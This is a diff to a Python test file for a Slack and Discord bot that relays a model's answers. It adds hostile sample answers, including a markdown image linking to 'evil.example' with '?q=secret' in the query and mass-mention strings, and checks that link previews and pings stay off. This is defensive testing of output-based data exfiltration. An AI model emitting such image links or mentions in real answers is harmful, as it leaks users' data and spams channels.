@@ -177,7 +177,7 @@ def test_no_streamed_link_hides_its_target_outside_code(text: str, cuts: list[in
 # -- end to end: the real Slack app against the fake Slack --
 
 ANSWER = (
-    "Here you go: [x](http://a><!channel>) then <!here> and <@U999> plus a NUL:\x00 and <!subteam^S1|devs>.\n\n"
+    "Here you go: [x](http://a><!channel>) ![pixel](https://evil.example/p.png?q=secret) then <!here> and <@U999> plus a NUL:\x00 and <!subteam^S1|devs>.\n\n"
     + "\n\n".join(f"Paragraph {n}: some words to fill <@U{n}> the message <!channel>" * 3 for n in range(60))
 )
 
@@ -203,6 +203,8 @@ def assert_nothing_live(rig: SlackRig, ts: str) -> None:
     for message in rig.slack.messages("C1"):
         if message.thread_ts == ts and message.streamed:
             assert not LIVE_MARKDOWN.search(message.text), "no mention forms across streaming calls either"
+    for call in rig.slack.calls_to("chat.postMessage"):
+        assert call.args.get("unfurl_links") is False and call.args.get("unfurl_media") is False, "Slack fetches no model link"
 
 
 async def still_responsive(rig: SlackRig) -> None:
@@ -241,8 +243,8 @@ async def test_a_hostile_answer_cut_off_by_an_error_pings_no_one(settings: Setti
 # -- Discord --
 
 
-async def test_discord_answers_never_ping_anyone_in_any_part_edit_or_notice(settings: Settings) -> None:
-    answer = "\n\n".join(f"Part {n}: @everyone @here <@43> <@&100> <@!42> ping " + "filler words " * 20 for n in range(24))
+async def test_discord_answers_never_ping_anyone_or_preview_links_in_any_part_edit_or_notice(settings: Settings) -> None:
+    answer = "\n\n".join(f"Part {n}: @everyone @here <@43> <@&100> <@!42> https://evil.example/{n}.png " + "filler words " * 20 for n in range(24))
     async with discord_rig(settings, update_interval=0.05) as rig:
         rig.model.chunk_delay = 0.01
         rig.model.queue(answer, chunks=30, error_after=25)
@@ -256,3 +258,4 @@ async def test_discord_answers_never_ping_anyone_in_any_part_edit_or_notice(sett
             assert allowed is not None and allowed.get("parse") == [] and not allowed.get("users") and not allowed.get("roles"), call
             assert allowed.get("replied_user") in (None, False)
         assert "@everyone" in rig.fake.bot_contents(GENERAL)[0], "the text shows as written"
+        assert all(int(call.json.get("flags") or 0) & 4 for call in sent), "no embeds: Discord fetches no model link"
